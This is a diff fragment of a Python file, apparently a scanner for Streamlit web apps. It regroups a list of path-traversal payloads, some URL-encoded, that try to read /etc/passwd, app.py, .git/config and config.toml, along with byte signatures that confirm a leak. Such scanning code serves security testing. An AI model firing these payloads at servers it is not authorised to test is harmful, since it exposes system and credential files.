@@ -58,19 +58,10 @@ SETTINGS = {
 }
 SECRET_FILES = {b"root:x:0": "/etc/passwd", b"st.App(": "app.py", b"[core]": ".git/config", b"maxUpload": "config.toml"}
 TRAVERSALS = [
-    "/../../../../etc/passwd",
-    "/static/../../../../etc/passwd",
-    "/static/..%2f..%2f..%2fetc/passwd",
-    "/%2e%2e/%2e%2e/etc/passwd",
-    "/_stcore/../../etc/passwd",
-    "/app/static/..%5c..%5c/app.py",
-    "/app/static/../../app.py",
-    "/component/x/../../../../etc/passwd",
-    "/media/../../../../etc/passwd",
-    "//etc/passwd",
-    "/app.py",
-    "/.streamlit/config.toml",
-    "/.git/config",
+    *("/../../../../etc/passwd", "/static/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc/passwd"),
+    *("/%2e%2e/%2e%2e/etc/passwd", "/_stcore/../../etc/passwd", "/app/static/..%5c..%5c/app.py"),
+    *("/app/static/../../app.py", "/component/x/../../../../etc/passwd", "/media/../../../../etc/passwd"),
+    *("//etc/passwd", "/app.py", "/.streamlit/config.toml", "/.git/config"),
 ]
 
 
